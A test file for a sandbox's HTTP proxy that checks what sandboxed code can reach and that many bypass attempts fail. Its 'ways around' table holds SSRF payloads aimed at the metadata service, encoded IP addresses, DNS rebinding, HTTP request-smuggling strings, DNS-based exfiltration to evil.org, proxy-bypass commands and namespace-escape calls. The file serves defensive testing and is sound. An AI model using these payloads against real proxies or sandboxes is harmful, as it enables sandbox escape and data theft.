# SPDX-License-Identifier: Apache-2.0
"""The network of profiles: what code reaches through the proxy, and ways around it. Against real servers, at public and at
private addresses, in a namespace of the tests' own (tests/network_world.py), in which the daemon runs as well."""

import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile

import pytest

import harness

WORLD = pathlib.Path(__file__).resolve().parent.parent / "network_world.py"
PROGRAMS = ("unshare", "nsenter", "ip", "openssl")

ALLOWED = "api.example.org six.example.org *.wikipedia.org 93.184.216.34"

PROFILES = {
    "net": f"[network]\nmode = allow\nallow = {ALLOWED}\n",
    "other": "[network]\nmode = allow\nallow = evil.org\n",
    "port": "[network]\nmode = allow\nallow = api.example.org:8080\n",
    "inner": "[network]\nmode = allow\nallow = intranet.example.org 192.168.7.7\n",
    "any": "[network]\nmode = allow\nallow = *\n",
    "empty": "[network]\nmode = allow\nallow =\n",
    "full": "[network]\nmode = full\n",
    "none": "[network]\nmode = none\n",
    "lines": f"environment = shell\n[network]\nmode = allow\nallow = {ALLOWED}\n",
}

# What code of the tests has at hand.
PRELUDE = """
import http.client, json, os, socket, subprocess, sys, urllib.error, urllib.request
PROXY = ("127.0.0.1", 3128)

def get(url, data=None, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=60) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode()}"
    except Exception as error:
        return repr(error)

def raw(text, rest=b""):
    with socket.create_connection(PROXY, 60) as client:
        client.sendall(text if isinstance(text, bytes) else text.encode())
        data = b""
        try:
            while block := client.recv(65536):
                data += block
                if rest and b"\\r\\n\\r\\n" in data:
                    client.sendall(rest)
                    rest = b""
        except OSError as error:
            data += repr(error).encode()
        return data.decode(errors="replace")

def tunnel(target):
    return raw(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")

def attempt(call):
    try:
        return call()
    except Exception as error:
        return repr(error)
"""


class World:
    def __init__(self, user, directory):
        self.directory = directory
        apart = ["unshare", "-n", "-m"] if user.uid == 0 else ["unshare", "-Urnm"]
        self.process = subprocess.Popen(
            [*user.prefix, *apart, sys.executable, WORLD, directory],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd="/",
        )
        if self.process.stdout.readline() != b"ready\n":
            said = self.process.communicate()[1].decode()
            assert "Operation not permitted" in said, said
            pytest.skip(f"no namespaces for a world of its own: {said.splitlines()[-1]}")
        inside = [] if user.uid == 0 else ["-U", "--preserve-credentials"]
        self.wrapper = ["nsenter", "-t", str(self.process.pid), *inside, "-n", "-m"]

    def reached(self):
        """What was asked of servers that no sandbox may reach; forgotten with that."""
        path = self.directory / "reached"
        lines = path.read_text().splitlines() if path.exists() else []
        path.unlink(missing_ok=True)
        return lines

    def end(self):
        self.process.communicate()


def settle(adder, world):
    """ADDER lives in WORLD, and knows the profiles."""
    adder.wrapper, adder.environment = world.wrapper, "system"
    folder = adder.config / "profiles"
    folder.mkdir(mode=0o755)
    adder.own(folder)
    for name, text in PROFILES.items():
        (folder / f"{name}.conf").write_text(f"[profile]\ntitle = {name}\n{text}")
    return adder


@pytest.fixture(scope="module")
def world(user, common_directory):
    missing = [name for name in PROGRAMS if not shutil.which(name)]
    if missing:
        pytest.skip(f"no {', '.join(missing)} (packages util-linux, iproute2, openssl)")
    directory = pathlib.Path(tempfile.mkdtemp(prefix="world-", dir=common_directory))
    os.chmod(directory, 0o755)
    if os.geteuid() == 0:
        os.chown(directory, user.uid, user.uid)
    made = World(user, directory)
    yield made
    made.end()


@pytest.fixture(scope="module")
def placed(installation, user, common_directory, world):
    """An Adder in the world, for all tests that leave it as it was."""
    directory = pathlib.Path(tempfile.mkdtemp(prefix="placed-", dir=common_directory))
    os.chmod(directory, 0o755)
    own = settle(harness.Adder(installation, user, directory, "[environment]\ndefault = system\n"), world)
    yield own
    try:
        own.stop()
    finally:
        own.kill()


@pytest.fixture
def make_placed(make_adder, world):
    return lambda config="", variables=None: settle(make_adder(config, variables), world)


def run(adder, code, profile="net", *options, **others):
    return adder.run(PRELUDE + code, "--profile", profile, *options, **others)


def details(result):
    return [denial["detail"] for denial in result.denials if denial["kind"] == "network"]


# ---- what is allowed ----

CLIENTS = {
    "urllib": "print(get('http://api.example.org/hello'))",
    "http.client": """
connection = http.client.HTTPConnection(*PROXY)
connection.request("GET", "http://api.example.org/hello")
print(connection.getresponse().read().decode())
""",
    "curl": "subprocess.run(['curl', '-sS', 'http://api.example.org/hello'])",
    "urllib, with TLS": """
import ssl
context = ssl.create_default_context(cafile="ca.pem")
print(urllib.request.urlopen("https://api.example.org/hello", context=context).read().decode())
""",
    "http.client, with TLS": """
import ssl
connection = http.client.HTTPSConnection(*PROXY, context=ssl.create_default_context(cafile="ca.pem"))
connection.set_tunnel("api.example.org", 443)
connection.request("GET", "/hello")
print(connection.getresponse().read().decode())
""",
    "curl, with TLS": "subprocess.run(['curl', '-sS', '--cacert', 'ca.pem', 'https://api.example.org/hello'])",
    "in capitals, with a dot": "print(get('http://API.Example.ORG./hello'))",
    "an address": "print(get('http://93.184.216.34/hello'))",
    "IPv6": "print(get('http://six.example.org/hello'))",
}


@pytest.mark.parametrize("code", CLIENTS.values(), ids=CLIENTS.keys())
def test_client_reaches_an_allowed_host(placed, world, code):
    if "curl" in code and not shutil.which("curl"):
        pytest.skip("no curl")
    shutil.copy(world.directory / "ca.pem", placed.scratch / "ca.pem")
    os.chmod(placed.scratch / "ca.pem", 0o644)
    result = run(placed, code, "net", "--file", str(placed.scratch / "ca.pem"))
    assert result.outcome == "ok" and result.denials == [], result
    answer = json.loads(result.stdout)
    assert answer["path"] == "/hello"
    assert answer["at"] in ("93.184.216.34 80", "93.184.216.34 443", "2606:2800:220:1::34 80")
    (visit,) = result.network
    assert visit["connections"] == 1 and visit["in_bytes"] > len(result.stdout) // 2 and visit["out_bytes"] > 20
    assert visit["port"] == (443 if "443" in answer["at"] else 80)


SHELL_CLIENTS = {
    "curl": "curl -sS http://api.example.org/hello",
    "curl, with TLS": "curl -sS --cacert ca.pem https://api.example.org/hello",
    "wget": "wget -q -O - http://api.example.org/hello",
    "wget, with TLS": "wget -q -O - --ca-certificate=ca.pem https://api.example.org/hello",
}


def command_line(placed, command, *options):
    placed.environment, kept = None, placed.environment
    try:
        return placed.run(command, "--profile", "lines", *options)
    finally:
        placed.environment = kept


@pytest.mark.parametrize("command", SHELL_CLIENTS.values(), ids=SHELL_CLIENTS.keys())
def test_command_line_reaches_an_allowed_host(placed, world, command):
    if not shutil.which(command.split()[0]):
        pytest.skip(f"no {command.split()[0]}")
    shutil.copy(world.directory / "ca.pem", placed.scratch / "ca.pem")
    os.chmod(placed.scratch / "ca.pem", 0o644)
    result = command_line(placed, command + " | cat", "--file", str(placed.scratch / "ca.pem"))
    assert result.outcome == "ok" and result.denials == [], result
    assert json.loads(result.stdout)["path"] == "/hello"


def test_command_line_reaches_no_other_host(placed, world):
    if not shutil.which("curl"):
        pytest.skip("no curl")
    for command in ("curl -sSf http://evil.org/", "curl -sS --noproxy '*' http://93.184.216.34/ http://192.168.7.7/"):
        assert command_line(placed, command).outcome == "error" and world.reached() == []
    assert "evil.org" in str(details(command_line(placed, "curl -sf http://evil.org/")))


def test_requests(installation, user, common_directory, world, request):
    adder = request.getfixturevalue("shared_adder")
    if adder.environment != "science":
        pytest.skip("no environment `science`, which has the package requests")
    placed = request.getfixturevalue("placed")
    result = placed.run(
        PRELUDE + "import requests\nprint(requests.get('http://api.example.org/hello').json()['path'])\n"
        "print(requests.get('http://evil.org/').status_code)",
        *("--profile", "net"),
        env="science",
    )
    assert result.stdout == "/hello\n403\n" and details(result) == ["connect evil.org:80"], result


@pytest.mark.quick
def test_what_is_sent_arrives(placed):
    """Bodies of both kinds, methods, headers; what is between the sender and the proxy alone is not passed on."""
    code = """
print(get("http://api.example.org/post", b"x" * 20000, Proxy_Authorization="secret", **{"X-Own": "1"}))
print(raw(b"PUT http://api.example.org/put HTTP/1.1\\r\\nHost: api.example.org\\r\\nTransfer-Encoding: chunked\\r\\nConnection: X-Named\\r\\n"
          b"X-Named: 1\\r\\nProxy-Authorization: secret\\r\\nUpgrade: websocket\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n\\r\\n").partition("\\r\\n\\r\\n")[2])
"""
    result = run(placed, code)
    post, put = map(json.loads, result.stdout.splitlines())
    assert post["method"] == "POST" and post["body"] == "x" * 20000 and ["X-Own", "1"] in post["headers"]
    assert put["method"] == "PUT" and put["body"] == "hello"
    names = [name.lower() for name, _ in put["headers"]]
    assert sorted(names) == ["connection", "host", "transfer-encoding"]
    assert ["Connection", "close"] in put["headers"] and ["Host", "api.example.org"] in put["headers"]


# What a client sends behind its request, in one go with it or as soon as it can.
SECOND = {
    "another": "GET http://api.example.org/second HTTP/1.1\r\n\r\n",
    "to a forbidden host": "GET http://192.168.7.7/second HTTP/1.1\r\n\r\n",
    "to another Host": "GET /second HTTP/1.1\r\nHost: 192.168.7.7\r\n\r\n",
    "a tunnel": "CONNECT 192.168.7.7:80 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    "half of one": "GET http://api",
}
PIPELINED = """
FIRST = "GET http://api.example.org/kept HTTP/1.1\\r\\n\\r\\n"
POST = "POST http://api.example.org/kept HTTP/1.1\\r\\nContent-Length: 2\\r\\n\\r\\nhi"

def ask(*parts):
    with socket.create_connection(PROXY, 20) as client:
        for part in parts:
            client.sendall(part.encode())
        data = b""
        while block := client.recv(65536):
            data += block
        head, _, body = data.decode().partition("\\r\\n\\r\\n")
        return json.loads(body)["path"]

for second in SECOND:
    print(ask(FIRST + second), ask(FIRST, second), ask(POST + second), ask(POST[:-2], POST[-2:] + second))

# Whoever asks again on another connection is answered.
client = http.client.HTTPConnection(*PROXY, timeout=20)
for path in ("/kept", "/kept/2", "/3"):
    client.request("GET", "http://api.example.org" + path)
    print(json.loads(client.getresponse().read())["path"])
"""


def test_a_connection_is_over_with_the_answer_to_its_one_request(placed, world):
    """Also of a host that would keep it, and whatever was sent behind: the answer is whole, and nothing else is asked."""
    world.reached()
    result = run(placed, f"SECOND = {list(SECOND.values())}\n{PIPELINED}", timeout=120)
    assert result.stdout.splitlines() == ["/kept /kept /kept /kept"] * len(SECOND) + ["/kept", "/kept/2", "/3"], result
    assert world.reached() == [] and result.denials == []
    [visit] = result.network
    assert (visit["host"], visit["connections"]) == ("api.example.org", 4 * len(SECOND) + 3)


def test_servers_in_the_sandbox_itself(placed):
    """Loopback is its own, beside the proxy."""
    code = """
import http.server, threading
server = http.server.HTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
open("here.txt", "w").write("mine")
print(get("http://127.0.0.1:8000/here.txt"), get("http://localhost:8000/here.txt"))
"""
    result = run(placed, code)
    assert result.stdout == "mine mine\n" and result.denials == [] and result.network == [], result


def test_port_of_the_list(placed):
    code = "print(json.loads(get('http://api.example.org:8080/'))['at'])\nprint(get('http://api.example.org/')[:3])"
    result = run(placed, code, "port")
    assert result.stdout == "93.184.216.34 8080\n403\n" and details(result) == ["connect api.example.org:80"]


def test_full(placed, world):
    """The host's network, with all that is in it. So the ways around below lead to what is there."""
    code = (
        "print(json.loads(get('http://192.168.7.7/'))['leak'], json.loads(get('http://private.wikipedia.org/'))['leak'],"
        " json.loads(get('http://169.254.169.254/'))['leak'])\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('93.184.216.34', 9999))"
    )
    result = run(placed, code, "full")
    assert result.outcome == "ok" and result.stdout == "LEAK LEAK LEAK\n" and result.denials == [], result
    assert "net_namespace" in result.isolation["missing"] and result.isolation["level"] == 1
    # A datagram is under way for as long as it likes.
    reached = world.directory / "reached"
    harness.wait_until(lambda: "datagram" in reached.read_text(), "the datagram to arrive")
    assert len(world.reached()) == 4
    plain = placed.run("print(1)", "--profile", "none")
    assert plain.isolation["level"] > 1 and "net_namespace" not in plain.isolation["missing"]


@pytest.mark.parametrize("profile", ["none", "empty"])
def test_nothing(placed, world, profile):
    result = run(placed, "print(get('http://api.example.org/'))", profile)
    assert "93.184.216.34" not in result.stdout and result.network == [], result
    assert details(result) == ["connect api.example.org:80"] and world.reached() == []


# ---- ways around ----

# Code, what it prints at least (or None), and a denial that must be told (or None). Nothing that is forbidden is reached.
AROUND = {
    "a direct connection": ("attempt(lambda: socket.create_connection(('93.184.216.34', 80), 5))", "unreachable", "connect 93.184.216.34:80"),
    "a direct connection by name": ("attempt(lambda: socket.create_connection(('api.example.org', 80), 5))", "gaierror", "connect api.example.org:80"),
    "a direct connection, IPv6": ("attempt(lambda: socket.create_connection(('2606:2800:220:1::34', 80), 5))", "unreachable", "connect [2606:2800:220:1::34]:80"),
    "a decimal address": ("get('http://3232237319/')", "400", "no host of one meaning"),
    "an octal address": ("get('http://0300.0250.07.07/')", "400", "no host of one meaning"),
    "a hexadecimal address": ("get('http://0xc0a80707/')", "400", "no host of one meaning"),
    "a short address": ("get('http://192.168.1799/')", "400", "no host of one meaning"),
    "a private address": ("get('http://192.168.7.7/')", "403", "connect 192.168.7.7:80"),
    "a tunnel to a private address": ("tunnel('192.168.7.7:80')", "403", "connect 192.168.7.7:80"),
    "a tunnel to another public address": ("tunnel('93.184.216.99:443')", "403", "connect 93.184.216.99:443"),
    "zero": ("get('http://0.0.0.0/') + tunnel('0.0.0.0:80') + tunnel('0:80')", "403", "connect 0.0.0.0:80"),
    "loopback of the host": ("raw('GET http://127.0.0.1/ HTTP/1.1\\r\\n\\r\\n') + tunnel('localhost:22')", "403", "connect 127.0.0.1:80"),
    "loopback, IPv6": ("tunnel('[::1]:80')", "403", "connect [::1]:80"),
    "a mapped address": ("tunnel('[::ffff:192.168.7.7]:80') + get('http://[::ffff:c0a8:707]/')", "403", "connect [::ffff:192.168.7.7]:80"),
    "a scope in an address": ("tunnel('[fe80::1%25lo]:80') + tunnel('[fe80::1%lo]:80')", "400", "request that"),
    "a name that is private": ("get('http://private.wikipedia.org/')", "403", "connect private.wikipedia.org:80 (192.168.7.7, a private address)"),
    "a name that is private, IPv6": ("get('http://private6.wikipedia.org/')", "403", "a private address)"),
    "a name that is loopback": ("get('http://local.wikipedia.org/') + tunnel('local6.wikipedia.org:80')", "403", "a loopback address)"),
    "a name of the metadata service": ("get('http://metadata.wikipedia.org/')", "403", "metadata service)"),
    "a name that is mapped": ("tunnel('mapped.wikipedia.org:80')", "40", None),
    "a name that is zero": ("tunnel('zero.wikipedia.org:80')", "403", "an address of this host)"),
    "a name of the host itself": ("get('http://own.wikipedia.org/') + tunnel('own6.wikipedia.org:80')", "403", "an address of this host)"),
    "a name with two addresses": ("get('http://both.wikipedia.org/')", "93.184.216.34 80", None),
    "a name that changes": ("get('http://rebind.wikipedia.org/') + get('http://rebind.wikipedia.org/')", "93.184.216.34 80", "a loopback address)"),
    "a redirect to the metadata service": ("get('http://en.wikipedia.org/redirect?to=http://169.254.169.254/latest/meta-data')", "403", "connect 169.254.169.254:80"),
    "a redirect to a private name": ("get('http://en.wikipedia.org/redirect?to=http://private.wikipedia.org/')", "403", "a private address)"),
    "a redirect to loopback": ("get('http://en.wikipedia.org/redirect?to=http://127.0.0.1:22/')", "refused", None),
    "a user's name": ("raw('GET http://en.wikipedia.org@192.168.7.7/ HTTP/1.1\\r\\n\\r\\n')", "400", "user's name"),
    "a user's name before a forbidden host": ("raw('GET http://192.168.7.7@en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "user's name"),
    "a backslash": ("raw('GET http://evil.org\\\\@en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n') + raw('GET http://evil.org\\\\.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "request that"),
    "a fragment": ("raw('GET http://evil.org#.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "request that"),
    "a percent sign": ("raw('GET http://evil.org%2f.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "request that"),
    "another port": ("tunnel('en.wikipedia.org:8080') + tunnel('en.wikipedia.org:22')", "403", "connect en.wikipedia.org:8080"),
    "a port that is none": ("tunnel('en.wikipedia.org:0') + tunnel('en.wikipedia.org:65616') + tunnel('en.wikipedia.org:') + tunnel('en.wikipedia.org:080')", "400", "request that"),
    "another Host": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\nHost: evil.org\\r\\n\\r\\n')", '["Host", "en.wikipedia.org"]', None),
    "two Hosts": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\nHost: en.wikipedia.org\\r\\nHost: evil.org\\r\\n\\r\\n')", "400", "more than one Host"),
    "a path and a Host": ("raw('GET / HTTP/1.1\\r\\nHost: en.wikipedia.org\\r\\n\\r\\n')", "400", "http://HOST/"),
    "another scheme": ("raw('GET ftp://en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n') + raw('GET https://en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n') + raw('GET file:///etc/passwd HTTP/1.1\\r\\n\\r\\n')", "400", "CONNECT"),
    "a name that ends alike": ("get('http://evilwikipedia.org/')", "403", "connect evilwikipedia.org:80"),
    "a name that begins alike": ("get('http://wikipedia.org.evil.org/')", "403", "connect wikipedia.org.evil.org:80"),
    "the name without what the star stands for": ("get('http://wikipedia.org/') + get('http://.wikipedia.org/')", "403", "connect wikipedia.org:80"),
    "letters that look alike": ("get('http://xn--wkipedia-c2a.org/') + raw('GET http://en.w\\u0131kipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "403", "connect xn--wkipedia-c2a.org:80"),
    "capitals and a dot": ("get('http://EVIL.org./')", "403", "connect evil.org:80"),
    "a line in the address": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\nHost: evil.org\\r\\n\\r\\n') + raw(b'GET http://en.wikipedia.org/\\rHost: HTTP/1.1\\r\\n\\r\\n')", "400", "request that"),
    "a line in a header": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\nX: a\\nHost: evil.org\\r\\n\\r\\n') + raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\nX: a\\r\\n Host: evil.org\\r\\n\\r\\n')", "400", "request that has a header"),
    "a zero byte": ("raw(b'GET http://en.wikipedia.org/ HTTP/1.1\\r\\nX: a\\0b\\r\\n\\r\\n')", "400", "zero byte"),
    "two framings": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "both"),
    "two lengths": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\n123456')", "400", "more than one Content-Length"),
    "lengths of other kinds": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nContent-Length: +5\\r\\n\\r\\n') + raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nContent-Length: 0x5\\r\\n\\r\\n')", "400", "no number"),
    "a framing that is hidden": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n') + raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n')", "400", "Transfer-Encoding"),
    "a length that Connection names": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nConnection: Content-Length\\r\\nContent-Length: 2\\r\\n\\r\\nhiGET http://evil.org/ HTTP/1.1\\r\\n\\r\\n')", '"body": "hi"', None),
    "a second request behind the first": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\nGET http://192.168.7.7/ HTTP/1.1\\r\\n\\r\\n').count('HTTP/1.')", "1", None),
    "a second request behind a body": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.org\\r\\n\\r\\n').count('HTTP/1.')", "1", None),
    "chunks with extensions": ("raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0;x=y\\r\\n\\r\\n') + raw('POST http://en.wikipedia.org/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nHost: evil.org\\r\\n\\r\\n')", "400", "framed"),
    "a request that comes back": ("raw('TRACE http://en.wikipedia.org/ HTTP/1.1\\r\\n\\r\\n')", "400", "TRACE"),
    "too large a head": ("raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\n' + 'X: ' + 'a' * 70000 + '\\r\\n\\r\\n') + raw('GET http://en.wikipedia.org/ HTTP/1.1\\r\\n' + 'X: a\\r\\n' * 200 + '\\r\\n')", "400", "headers"),
    "datagrams": ("attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('93.184.216.34', 9999)))", "unreachable", "connect 93.184.216.34:9999"),
    "a name server of one's own": ("attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53)))", "unreachable", "connect 8.8.8.8:53"),
    "a name that carries data": ("get('http://secret.evil.org/') + repr(attempt(lambda: socket.gethostbyname('secret.evil.org')))", "403", "connect secret.evil.org:80"),
    "packets of one's own": ("[attempt(lambda: socket.socket(family, socket.SOCK_RAW, 1)) for family in (2, 10, 17)], attempt(lambda: socket.socket(2, socket.SOCK_DGRAM, 1))", "not permitted", None),
    "other families": ("[attempt(lambda: socket.socket(family, socket.SOCK_DGRAM)) for family in (16, 29, 38, 40)], attempt(lambda: socket.socket(2, 1, 132)), attempt(lambda: socket.socket(2, 6, 33)), attempt(lambda: socket.socket(2, 1, 262))", "OSError", None),
    "an abstract name of the host": ("attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0adder-test-world'))", "Error", None),
    "a path of the host": ("attempt(lambda: socket.socket(socket.AF_UNIX).connect('WORLD/socket'))", "Error", None),
    "another namespace": ("[attempt(lambda: __import__('ctypes').CDLL(None, use_errno=True).setns(os.open(f'/proc/{pid}/ns/net', 0), 0x40000000)) for pid in (1, 'self')]", "", None),
    "the proxy's own port": ("attempt(lambda: socket.create_server(('127.0.0.1', 3128))), attempt(lambda: socket.create_server(('0.0.0.0', 3128), reuse_port=True))", "in use", None),
    "the proxy through the proxy": ("raw('CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\n\\r\\n') + raw('GET http://localhost:3128/ HTTP/1.1\\r\\n\\r\\n')", "403", "connect 127.0.0.1:3128"),
    "no proxy at all": ("os.environ.update(no_proxy='*', NO_PROXY='*'), get('http://api.example.org/')", "URLError", "connect api.example.org:80"),
    "a proxy of one's own choice": ("subprocess.run(['curl', '-sS', '-x', 'http://93.184.216.99:80', 'http://evil.org/'], capture_output=True, text=True).stderr", "", None),
    "what the variables do not say": ("subprocess.run(['curl', '-sS', '--noproxy', '*', 'http://93.184.216.34/'], capture_output=True, text=True)", "", None),
}


@pytest.mark.parametrize("row", AROUND.values(), ids=AROUND.keys())
def test_way_around(placed, world, row):
    code, printed, denial = row
    world.reached()
    code = code.replace("WORLD", str(world.directory))
    result = run(placed, f"print({code})", timeout=60)
    assert result.outcome == "ok", result
    assert printed in result.stdout, result
    assert "LEAK" not in result.stdout and world.reached() == [], result
    if denial:
        assert any(denial in detail for detail in details(result)), result.denials
    for visit in result.network:
        assert visit["host"] in ("api.example.org", "six.example.org", "93.184.216.34") or visit["host"].endswith(".wikipedia.org")


def test_neighbours(placed, world):
    """Two sandboxes at once: each has a proxy at the same place, which is its own, and a loopback of its own."""
    here = (
        "server = socket.create_server(('127.0.0.1', 5000))\nprint('started', flush=True)\nimport time\n"
        "server.settimeout(20)\nprint(attempt(server.accept))"
    )
    with placed.start(PRELUDE + here, "--profile", "other") as first:
        assert first.stdout.readline() == b"started\n"
        result = run(
            placed,
            "print(attempt(lambda: socket.create_connection(('127.0.0.1', 5000), 5)))\nprint(get('http://evil.org/'))\n"
            "print(json.loads(get('http://api.example.org/'))['at'])",
        )
        first.kill()
    lines = result.stdout.splitlines()
    assert "refused" in lines[0] and lines[1].startswith("403") and lines[-1] == "93.184.216.34 80", result
    assert world.reached() == []


# ---- bounds ----


def test_bytes_that_come_in(placed):
    code = "print(len(get('http://api.example.org/bytes/3000000')), len(get('http://api.example.org/bytes/10')))"
    result = run(placed, code, "net", "--limit", "network_in_bytes=1MiB")
    assert "3000000" not in result.stdout and result.network[0]["in_bytes"] == 1 << 20, result
    (denial,) = result.denials
    assert denial["detail"] == "network_in_bytes: 1 MiB used up" and "--limit network_in_bytes" in denial["hint"]


def test_bytes_that_go_out(placed):
    code = "print(get('http://api.example.org/', b'x' * 3000000)[:60])"
    result = run(placed, code, "net", "--limit", "network_out_bytes=1MiB")
    assert result.network[0]["out_bytes"] <= 1 << 20 and "93.184" not in result.stdout, result
    assert details(result) == ["network_out_bytes: 1 MiB used up"]


def test_connections_at_once(placed):
    code = """
held = [socket.create_connection(PROXY, 5) for _ in range(3)]
for one in held:
    one.sendall(b"CONNECT api.example.org:80 HTTP/1.1\\r\\n\\r\\n")
    assert one.recv(100).startswith(b"HTTP/1.1 200")
print(get("http://api.example.org/")[:3])
held.pop().close()
import time
for _ in range(100):
    answer = get("http://api.example.org/")
    if not answer.startswith("503"):
        break
    time.sleep(0.05)
print(json.loads(answer)["at"])
"""
    result = run(placed, code, "net", "--limit", "network_connections=3")
    assert result.stdout == "503\n93.184.216.34 80\n", result
    assert details(result) == ["network_connections: 3 open through the proxy"]


def test_time_of_a_connection(placed):
    result = run(placed, "print(get('http://api.example.org/slow'))", "net", "--limit", "network_ms=300ms")
    assert result.outcome == "ok" and "at" not in result.stdout, result
    assert details(result) == ["network_ms: 300 ms reached by a connection"]


def test_crowd(placed, world):
    """More connections than there may be, at once and again and again: none gets through while there is no room, each does when
    there is, and the daemon is as it was."""
    code = """
import concurrent.futures
def hold(_):
    one = socket.create_connection(PROXY, 60)
    one.sendall(b"CONNECT api.example.org:80 HTTP/1.1\\r\\n\\r\\n")
    assert one.recv(100).startswith(b"HTTP/1.1 200")
    return one
def ask(n):
    return get(f"http://api.example.org/{n}")
def insist(n):
    while (answer := ask(n)).startswith("503"):
        pass
    return answer
held = list(map(hold, range(16)))
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    print(*set(pool.map(ask, range(120))), end="")
    while held:
        held.pop().close()
    print(sum(json.loads(answer)["path"] == f"/{n}" for n, answer in enumerate(pool.map(insist, range(120)))))
"""
    options = "--limit", "network_connections=16", "--timeout", "100s"
    run(placed, code, "net", *options)
    before = open_files(placed)
    result = run(placed, code, "net", *options)
    assert result.stdout == "503 Adder: as many connections as may be are open at once (network_connections)\n120\n", result
    assert details(result) == ["network_connections: 16 open through the proxy"]
    harness.wait_until(lambda: link_threads(placed) == 0, "the threads of the proxy to end")
    # Parked sandboxes come and go, with some twenty descriptors each; one left of each connection would be 256.
    harness.wait_until(lambda: open_files(placed) <= before + 128, f"no more than {before} descriptors, and those of parked sandboxes")


def open_files(adder):
    return len(os.listdir(f"/proc/{adder.daemon()}/fd"))


def link_threads(adder):
    tasks = pathlib.Path(f"/proc/{adder.daemon()}/task")
    names = []
    for task in tasks.iterdir():
        try:
            names.append((task / "comm").read_text().strip())
        except OSError:
            pass
    return len([name for name in names if name in ("adder-link", "adder-lookup")])


def test_nothing_goes_on_after_the_run(placed, world):
    """A connection that a background process holds ends with its run."""
    code = "print(raw('CONNECT api.example.org:80 HTTP/1.1\\r\\n\\r\\n'))"
    result = run(placed, code, "net", "--timeout", "1")
    assert result.outcome == "timeout", result
    harness.wait_until(lambda: link_threads(placed) == 0, "the connection to end")


def test_what_a_host_answers_is_no_denial(placed):
    result = run(placed, "urllib.request.urlopen('http://api.example.org/status/404')")
    assert result.outcome == "error" and "404" in result.error["message"], result
    assert result.denials == [] and result.error["hint"] is None, result
    result = run(placed, "urllib.request.urlopen('http://closed.wikipedia.org/')")
    assert "502" in result.error["message"] and result.denials == [], result
    for code, words in {
        "urllib.request.urlopen('http://closed.wikipedia.org/')": "cannot connect to closed.wikipedia.org:80",
        "urllib.request.urlopen('http://no-such.wikipedia.org/')": "the name no-such.wikipedia.org cannot be looked up",
        "urllib.request.urlopen('https://no-such.wikipedia.org/')": "the name no-such.wikipedia.org cannot be looked up",
    }.items():
        assert words in run(placed, code).error["message"], code
    result = run(placed, "socket.create_connection(('93.184.216.34', 80))")
    assert "through the proxy" in result.error["hint"] and details(result) == ["connect 93.184.216.34:80"], result


# ---- private networks ----


def test_private_network_that_is_opened(make_placed, world):
    adder = make_placed("[network]\nprivate_networks = 10.77.0.0/16\n")
    code = "print(json.loads(get('http://intranet.example.org/'))['at'])\nprint(get('http://192.168.7.7/')[:3])"
    result = run(adder, code, "inner")
    assert result.stdout == "10.77.0.2 80\n403\n", result
    assert details(result) == ["connect 192.168.7.7:80 (192.168.7.7, a private address)"] and world.reached() == []


def test_any_host_is_any_public_one(placed, world):
    code = "print(json.loads(get('http://api.example.org/'))['at'], get('http://192.168.7.7/')[:3], get('http://local.wikipedia.org/')[:3])"
    result = run(placed, code, "any")
    assert result.stdout == "93.184.216.34 80 403 403\n" and world.reached() == [], result


@pytest.mark.parametrize("value", ["10.0.0.0/4", "0.0.0.0/0", "10.1.0.1/16", "intranet", "10.1.0.0/33"])
def test_wrong_private_network(make_adder, value):
    adder = make_adder(f"[network]\nprivate_networks = {value}\n")
    ended = adder.call("run", "--no-daemon", "-c", "print(1)")
